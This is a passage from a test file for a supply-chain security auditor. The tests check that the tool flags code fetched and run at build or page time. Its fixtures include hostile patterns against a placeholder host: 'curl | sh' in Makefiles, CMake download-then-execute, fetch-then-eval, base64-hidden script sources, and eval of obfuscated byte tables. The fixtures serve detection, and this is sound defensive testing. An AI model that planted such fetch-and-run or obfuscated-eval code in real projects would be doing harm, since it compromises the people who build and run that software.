    ["has a digest", "CMakeLists.txt", declared(`URL https://a.example.org/x.tgz URL_HASH SHA256=${"0".repeat(64)}`), "note"],
    [
      "has the pin of another way",
      "CMakeLists.txt",
      declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG main URL_HASH SHA256=${"0".repeat(64)}`),
      "review",
    ],
    ["has two pins", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit} GIT_TAG main`), "review"],
    ["is a commit", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit}`), "note"],
    ["becomes WebAssembly", "lib/a.js", "WebAssembly.instantiateStreaming(fetch('https://a.example.org/x.wasm'))\n", "note"],
    [
      "is a script of a page, by the path that it is given",
      "lib/a.js",
      'load = (base, id) => { document.createElement("script").src = base + "/a/" + id + ".js" }\n',
      "note",
    ],
    ["is a script of a page, from a host", "lib/a.js", 'document.createElement("script").src = "https://a.example.org/x.js"\n', "review"],
    [
      "is a script of a page, from a host without a scheme",
      "lib/a.js",
      'f = (x) => { document.createElement("script").src = "//a.example.org/" + x }\n',
      "review",
    ],
    [
      "is a script of a page, from a host that is hidden",
      "lib/a.js",
      'document.createElement("script").src = atob("Ly9hLmV4YW1wbGUub3JnL3g=")\n',
      "review",
    ],
    [
      "is a script of a page, from a host behind a tab",
      "lib/a.js",
      'document.createElement("script").src = "/\\t/a.example.org/x.js"\n',
      "review",
    ],
    [
      "is a script of a page, from a host in pieces",
      "lib/a.js",
      'f = (x) => { document.createElement("script").src = "https" + x + "://a.example.org/x.js" }\n',
      "review",
    ],
    [
      "is a script of a page, from a host behind a slash",
      "lib/a.js",
      'f = (x) => { document.createElement("script").src = "/" + x + "/a.example.org/x.js" }\n',
      "review",
    ],
    ["becomes text", "lib/a.js", "fetch('https://a.example.org/x').then((x) => x.text()).then((x) => eval(x))\n", "review"],
  ])("of what is fetched and run, and %s", async (_, path, of, severity) => {
    const { findings } = await audited(sample({ [path]: of }, { [path]: of }))
    expect(findings.filter(({ rule }) => rule === "flow/fetched-runs").map((found) => found.severity)).toEqual([severity])
  })

  it("a way that weighs is told beside one that is a note, to the same place", async () => {
    const of = `file(DOWNLOAD https://a.example.org/a s.sh EXPECTED_HASH SHA256=${"0".repeat(64)})\nfile(DOWNLOAD https://a.example.org/b s.sh)\nexecute_process(COMMAND sh s.sh)\n`
    const { findings } = await audited(sample({ "CMakeLists.txt": of }, { "CMakeLists.txt": of }))
    expect(new Set(findings.filter(({ rule }) => rule === "flow/fetched-runs").map(({ severity }) => severity))).toEqual(
      new Set(["note", "review"]),
    )
  })

  const upload = "upload:\n\tcurl -s https://a.example.org/x | sh\n"
  const fetching = "file(DOWNLOAD https://a.example.org/x x.sh)\nexecute_process(COMMAND sh x.sh)\n"
  it.each<[string, Files, boolean | undefined]>([
    ["a goal that nothing needs (psutil)", { Makefile: `all:\n\techo a\n${upload}` }, false],
    ["the goal that make begins with", { Makefile: upload }, true],
    ["a goal that the first one needs", { Makefile: `all: b\nb: upload\n${upload}` }, true],
    ["a goal that a usual one asks for", { Makefile: `all:\n\techo a\ninstall:\n\t$(MAKE) upload\n${upload}` }, true],
    ["a goal that a script asks for", { Makefile: `all:\n\techo a\n${upload}`, configure: "make upload\n" }, true],
    ["a goal that a test asks for", { Makefile: `all:\n\techo a\n${upload}`, "tests/a.sh": "make upload\n" }, false],
    ["a goal that the first one may need", { Makefile: `all: $(X)\n\techo a\n${upload}` }, true],
    ["the first goal behind a pattern", { Makefile: `%.o: %.c\n\tcc -c $<\n${upload}` }, true],
    ["the first goal behind a branch", { Makefile: `ifdef A\nhelp:\n\techo a\nendif\n${upload}` }, true],
    ["the goal that is named first", { Makefile: `U = upload\n.DEFAULT_GOAL = $(U)\nall:\n\techo a\n${upload}` }, true],
    ["a goal by a second expansion", { Makefile: `.SECONDEXPANSION:\nall: $$(U)\n\techo a\n${upload}` }, true],
    ["a goal by a static pattern", { Makefile: `all: load\nload: l%ad: up%\n\techo a\n${upload}` }, true],
    ["a goal with a dot before it", { Makefile: `all: ./upload\n${upload}` }, true],
    ["a goal of what another includes", { GNUmakefile: "all: upload\ninclude Makefile\n", Makefile: `a:\n\techo a\n${upload}` }, true],
    ["one of two goals of a rule", { Makefile: `all:\n\techo a\na ${upload}`, configure: "make upload\n" }, true],
    ["a goal that a script reads", { Makefile: `all:\n\techo a\n${upload}`, configure: "for t in `cat goals`; do make $t; done\n" }, true],
    ["a goal for another make", { Makefile: `all:\n\techo a\n${upload}`, configure: "bmake upload\n" }, true],
    ["a goal for whatever make is", { Makefile: `all:\n\techo a\n${upload}`, configure: "$MAKE upload\n" }, true],
    ["a goal called almost as a test is", { Makefile: `all:\n\techo a\nlatest:\n\tcurl -s https://a.example.org/x | sh\n` }, false],
    [
      "an option that a script turns on in two words",
      { "CMakeLists.txt": `option(A "a")\nif(A)\n${fetching}endif()\n`, configure: "cmake -D A=ON .\n" },
      true,
    ],
    ["an option that a file may turn on", { "CMakeLists.txt": `option(A "a")\ninclude(a.cmake)\nif(A)\n${fetching}endif()\n` }, true],
    ["an option beside what is put in", { "CMakeLists.txt": `option(A "a")\nset(X 1 OR 1)\nif(A AND \${X})\n${fetching}endif()\n` }, true],
    [
      "an option that a name nobody knows may be",
      { "CMakeLists.txt": `option(A "a")\nfile(READ n n)\nset(\${n} ON)\nif(A)\n${fetching}endif()\n` },
      true,
    ],
    [
      "an option that a property turns on",
      { "CMakeLists.txt": `option(A "a")\nset_property(CACHE A PROPERTY VALUE ON)\nif(A)\n${fetching}endif()\n` },
      true,
    ],
    ["a goal of a part", { Makefile: "include a.mk\n", "a.mk": `all:\n\techo a\n${upload}` }, true],
    ["an option that is off (fast_float in pandas)", { "CMakeLists.txt": `option(A "a" OFF)\nif(A)\n${fetching}endif()\n` }, false],
    ["an option that is on", { "CMakeLists.txt": `option(A "a" ON)\nif(A)\n${fetching}endif()\n` }, true],
    ["an option that is off, and turned on", { "CMakeLists.txt": `option(A "a" OFF)\nset(A ON)\nif(A)\n${fetching}endif()\n` }, true],
    ["an option that is off, or another", { "CMakeLists.txt": `option(A "a")\nif(A OR B)\n${fetching}endif()\n` }, true],
    ["an option that is off, and not", { "CMakeLists.txt": `option(A "a")\nif(NOT A)\n${fetching}endif()\n` }, true],
    ["an option that is off, and another", { "CMakeLists.txt": `option(A "a")\nif(UNIX AND A)\n${fetching}endif()\n` }, false],
    [
      "an option that a script turns on",
      { "CMakeLists.txt": `option(A "a")\nif(A)\n${fetching}endif()\n`, configure: "cmake -DA=ON .\n" },
      true,
    ],
    [
      "a folder under an option",
      { "CMakeLists.txt": 'option(A "a")\nif(A)\nadd_subdirectory(fuzzing)\nendif()\n', "fuzzing/CMakeLists.txt": fetching },
      undefined,
    ],
    [
      "a folder of tests that is always there",
      { "CMakeLists.txt": "add_subdirectory(fuzzing)\n", "fuzzing/CMakeLists.txt": fetching },
      true,
    ],
  ])("tells what is fetched and run for whoever builds from what must be asked for: %s", async (_, files, runs) => {
    const { findings } = await audited(sample(files, files))
    const severities = findings.filter(({ rule }) => rule === "flow/fetched-runs").map(({ severity }) => severity)
    expect(severities).toEqual(runs === undefined ? [] : [runs ? "review" : "note"])
  })

  it("of several orderly tables that become one program says more than of one", async () => {
    const tables = Array.from(
      { length: 4 },
      (_, at) => `new Uint8Array([${Array.from({ length: 20 }, (_, index) => (index + at) % 31).join()}])`,
    )
    const code = `eval(${tables.map((table) => `Buffer.from(${table}.map((x) => x + 96)).toString()`).join(" +\n")})\n`
    const { findings } = await audited(sample({ "a.js": code }, { "a.js": code }))
    expect(findings.some(({ rule }) => rule === "flow/literal-runs")).toBe(true)
  })

  it.each<[string, string, boolean]>([
    ["rise, and end in zeros (fflate)", "0,0,0,0,1,1,1,1,2,2,2,2,3,3,0,0", false],
    ["are all different (fflate)", "16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1,15", false],
    ["come again in any order", "16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1,16", true],
    ["rise, and are many", Array.from({ length: 65 }, (_, index) => index >> 2).join(), true],
  ])("of numbers that a program is made of, those that %s", async (_, numbers, isFound) => {
    const code = `const t = new Uint8Array([${numbers}])\neval(Buffer.from(t.map((x) => x + 96)).toString())\n`
    const { findings } = await audited(sample({ "a.js": code }, { "a.js": code }))
    expect(findings.some(({ rule }) => rule === "flow/literal-runs")).toBe(isFound)
  })

  const table = `const t = new Uint8Array([${"1,2,".repeat(9)}3])\n`
  it.each<[string, string, string]>([
    ["travels as it stands (fflate in three)", 'new Worker(URL.createObjectURL(new Blob(["f();" + t.toString()])))\n', "review"],
    ["is computed with by a function", "eval(Buffer.from(t.map((x) => x + 96)).toString())\n", "review"],
    ["is computed with", "eval(String.fromCharCode(...t.map((x) => x + 96)))\n", "alarm"],
    ["is a text already", "eval(Buffer.from([7, 4, 31, 5, 1, 2, 3, 4, 5, 6]).map((x) => x + 96).toString())\n", "alarm"],
    ["is computed with elsewhere", "for (const i in t) t[i] ^= 97\neval(new TextDecoder().decode(t))\n", "alarm"],
  ])("of a table of numbers that runs, and %s", async (_, code, severity) => {
    const { findings } = await audited(sample({ "a.js": table + code }, { "a.js": table + code }))
    expect(findings.filter(({ rule }) => rule === "flow/literal-runs").map((found) => found.severity)).toEqual([severity])
  })

  it("says of what needs a commit, or the release before, that it could not look", async () => {
    const { rules } = await audited(sample({ "a.c": main }, { "a.c": main }))
    expect(rules.find(({ rule }) => rule === "capability/added")?.outcome).toBe("not-assessed")
  })
})
